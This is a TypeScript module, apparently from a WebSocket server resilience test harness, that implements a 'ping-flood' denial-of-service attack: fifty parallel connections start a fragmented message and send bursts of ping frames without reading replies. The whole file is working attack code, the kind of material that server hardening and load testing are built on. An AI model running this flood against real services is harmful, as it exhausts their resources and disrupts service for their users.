import type { Attack } from './attack'
import { openRawSocket, opcodes, rawFrame } from './raw-socket'

const lines = 50
const pingBytes = 125
const pingsAtOnce = 500
const maxMs = 60_000

const begun = rawFrame({ opcode: opcodes.text, isFinal: false, payload: Buffer.from('a') })
const pings = Buffer.concat(Array.from({ length: pingsAtOnce }, () =>
  rawFrame({ opcode: opcodes.ping, payload: Buffer.alloc(pingBytes, 'p') })))

/** Lines that begin a message, send pings in the middle of it as fast as they are taken, and read no pong. */
export const pingFlood: Attack = {
  name: 'ping-flood',
  protocols: ['copy-trading', 'heart-check', 'echo', 'mode-code', 'chat'],
  fullSize: 2_000,
  testSize: 20,
  async run({ wsUrl }, size) {
    const startMs = performance.now()
    let pingsSent = 0
    let ended = 0
    async function flood(index: number): Promise<void> {
      for (let turn = 0; turn < size && performance.now() - startMs < maxMs;) {
        const line = await openRawSocket(wsUrl.replace('name=attacker', `name=attacker-${index}`))
        line.socket.pause()
        await line.write(begun)
        for (; turn < size && line.socket.writable && performance.now() - startMs < maxMs; turn += 1) {
          // A server that reads no more blocks the write for good.
          await Promise.race([line.write(pings), new Promise((resolve) => void setTimeout(resolve, 1_000))])
          pingsSent += pingsAtOnce
        }
        if (!line.socket.writable) ended += 1
        line.socket.destroy()
        turn += 1
      }
    }
    await Promise.all(Array.from({ length: lines }, (_, index) => flood(index)))
    return { lines, pingsSent, ended }
  },
}
